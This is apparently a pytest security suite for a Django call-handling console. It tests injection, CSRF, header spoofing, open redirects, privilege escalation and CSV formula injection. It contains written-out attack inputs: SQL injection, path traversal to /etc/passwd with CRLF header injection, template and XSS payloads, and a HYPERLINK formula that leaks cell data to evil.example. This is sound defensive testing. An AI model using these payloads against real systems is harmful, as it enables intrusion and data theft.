"""Attacks on the pages of the console by somebody who is signed in, and by sites and spreadsheets behind them.

Who may ask for which address is in `centre/test_who_may_ask.py`; sign-in, sessions and their theft in
`test_signin_attacks.py`.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from uuid import uuid4

import pytest
from django.test import Client as Browser
from django.urls import reverse

import callwarden.doors.console
from callwarden.control.access.models import PolicyVersion
from callwarden.control.alerts.models import AccessDay
from callwarden.kernel import clock
from callwarden.kernel.models import User
from callwarden.kernel.spreadsheets import inert
from callwarden.lawful.purposes import record_of_processing
from callwarden.lawful.purposes.models import Purpose
from tests.doors.console.centre.addresses import table
from tests.doors.console.centre.walking import console, names_in

SOURCE = Path(callwarden.doors.console.__file__).parent
# Names of everything any page reads from a query or a form, and of what lists take.
_READ = re.compile(r'(?:GET|POST)(?:\.get|\.getlist)?[(\[]"(\w+)"|Filter\(\s*"(\w+)"|self\.cleaned_data\["(\w+)"')
FIELDS = sorted(
    {
        name
        for path in SOURCE.rglob("*.py")
        for found in _READ.findall(path.read_text(encoding="utf-8"))
        for name in found
        if name
    }
    | {"q", "page", "sort", "order", "state", "kind", "since", "line", "client", "ids", "by"}
)
EVIL = {
    "ends": "\x00' OR '1'='1'; --",
    "too_much": "9" * 400,
    "elsewhere": "..%2f..%2f../etc/passwd\r\nSet-Cookie: taken=1",
    "templates": "{{ settings.SECRET_KEY }}{% debug %}${7*7}<script>alert(1)</script>",
}
EVERY_ROLE = ("data_protection_officer", "security_administrator", "agent")


def placed(route: str, evil: str) -> str:
    """An address of this route, with what an intruder would put in the place of names."""
    address = route
    for kind, name in re.findall(r"<(\w+):(\w+)>", route):
        put = {"uuid": str(uuid4()), "int": "99999999999999999999", "slug": "x-9", "str": evil}[kind]
        address = address.replace(f"<{kind}:{name}>", put)
    return "/" + address


@pytest.mark.parametrize("kind", EVIL)
def test_no_page_breaks_on_what_stands_in_queries_forms_and_addresses(person, line, kind):
    """Whatever is sent, the answer is no fault of ours, sets no header, and is shown as text."""
    evil, wrong = EVIL[kind], []
    folk = [person(role) for role in EVERY_ROLE]
    sent = dict.fromkeys(FIELDS, evil)
    routes, number = console(), list(EVIL).index(kind)
    for turn, ((name, method), address) in enumerate(sorted(table().items())):
        # Every kind of evil at every address of the two that list and search; one kind at each of the others.
        if turn % len(EVIL) != number and name not in {"calls", "customers", "search", "audit", "findings", "accounts"}:
            continue
        who = next((one for one in folk if one.user.roles[0] in address.may), folk[0])
        who.browser.raise_request_exception = False
        path = placed(routes[name], "..%00%27%0d%0ax:y")
        answer = who.post(path, sent) if method == "POST" else who.get(path, sent)
        text = "" if answer.streaming else answer.content.decode("utf-8", "replace")
        if answer.status_code >= 500:
            wrong.append(f"{method} {name}: {answer.status_code}")
        if "taken" in str(answer.cookies) or "alert(1)</script>" in text or "root:x:" in text:
            wrong.append(f"{method} {name}: what was sent works")
    assert wrong == []


def test_forms_without_their_token_are_refused_at_every_address(person):
    """A form of another site brings the cookie and no token; only what changes nothing is let be."""
    officer = person("security_administrator")
    officer.browser.handler.enforce_csrf_checks = True
    let_in = []
    for name, method in table():
        if method != "POST":
            continue
        path = placed(console()[name], "x")
        answer = officer.post(path, {"reason": "of another site"}, headers={"Origin": "https://evil.example"})
        if answer.status_code != 403:
            let_in.append(name)
    assert let_in == []


OVERRIDES = {
    "X-HTTP-Method-Override": "DELETE",
    "X-HTTP-Method": "PUT",
    "X-Original-URL": "/control/accounts/",
    "X-Rewrite-URL": "/control/accounts/",
    "X-Forwarded-Host": "evil.example",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-For": "127.0.0.1",
    "X-Forwarded-Prefix": "/evil",
    "X-Real-IP": "127.0.0.1",
    "X-Remote-User": "root",
    "Remote-User": "root",
    "Authorization": "Basic cm9vdDpyb290",
    "Forwarded": 'for=127.0.0.1;host="evil.example"',
}


def test_headers_give_no_rights_and_lead_nowhere_else(person):
    agent, officer = person("agent"), person("security_administrator")
    assert agent.get("/control/accounts/", headers=OVERRIDES).status_code == 403
    assert Browser().get("/control/accounts/", headers=OVERRIDES)["Location"].startswith("/accounts/login/")
    closed = agent.post(reverse("console:account_close", args=[officer.user.pk]), headers=OVERRIDES)
    assert closed.status_code == 403
    for path in ("/", "/control/accounts/", "/calls/"):
        for someone in (agent, officer):
            answer = someone.get(path, headers=OVERRIDES)
            assert "evil.example" not in answer.content.decode() + str(dict(answer.headers)), path


def test_metrics_are_for_this_machine_and_a_forwarded_request_is_not_of_it(client, settings):
    settings.METRICS_TOKEN = ""
    assert Browser().get("/metrics", REMOTE_ADDR="127.0.0.1").status_code == 200
    for header in ({"X-Forwarded-For": "127.0.0.1"}, {"Forwarded": "for=127.0.0.1"}):
        assert Browser().get("/metrics", headers=header, REMOTE_ADDR="127.0.0.1").status_code == 403


@pytest.mark.parametrize(
    "target", ["//evil.example/", "https://evil.example", "/\\evil.example", "javascript:alert(1)"]
)
def test_what_is_set_for_oneself_leads_back_into_this_site_only(person, target):
    someone = person("agent")
    for name, given in (("set_theme", {"theme": "dark"}), ("set_language", {"language": "en"})):
        answer = someone.post(reverse(f"console:{name}"), {**given, "next": target}, headers={"Referer": target})
        assert answer["Location"].startswith("/"), name
        assert not answer["Location"].startswith(("//", "/\\")), name


@pytest.mark.parametrize("extra", [{"is_superuser": "on", "is_staff": "on"}, {"roles": "auditor"}, {"lines": ""}])
def test_ones_own_settings_give_nobody_rights(person, extra):
    agent = person("agent")
    before = User.objects.values().get(pk=agent.user.pk)
    agent.post(reverse("console:settings"), {"language": "en", "time_zone": "UTC", **extra})
    after = User.objects.values().get(pk=agent.user.pk)
    kept = ("roles", "lines", "is_superuser", "is_staff", "is_active", "username", "pseudonym", "password")
    assert {name: after[name] for name in kept} == {name: before[name] for name in kept}


FORMULA = '=HYPERLINK("https://evil.example/"&A1)'


@pytest.mark.parametrize("cell", [FORMULA, "+1+1", "@SUM(A1)", "-2+3", "\t=1", "\r=1"])
def test_a_formula_is_no_formula_any_more(cell):
    assert inert(cell).startswith("'")
    assert inert("-5") == "-5"


def test_no_table_that_leaves_holds_a_formula(person, line):
    """Names that people typed are opened in somebody's spreadsheet: roles, purposes, colleagues."""
    officer = person("security_administrator")
    Purpose.objects.update(name=FORMULA, name_zh=FORMULA)
    User.objects.update(display_name=FORMULA)
    AccessDay.objects.create(
        day=clock.now().date(), actor=officer.user.actor, peers=FORMULA, action="view_masked", link="", count=3
    )
    version = PolicyVersion.objects.get(state="active")
    tables = [
        officer.get(reverse("console:matrix_csv", args=[version.pk])).content.decode(),
        officer.post(reverse("console:usage_export")).content.decode(),
        record_of_processing.to_csv(record_of_processing.activities()),
    ]
    for text in tables:
        cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
        assert len(cells) > 8
        assert [cell for cell in cells if cell[:1] in ("=", "+", "@")] == []


def test_every_place_of_an_address_has_a_kind_that_is_tried():
    kinds = {kind for route in console().values() for kind in re.findall(r"<(\w+):\w+>", route)}
    assert kinds <= {"uuid", "int", "slug", "str"}
    assert all(names_in(route) or "<" not in route for route in console().values())
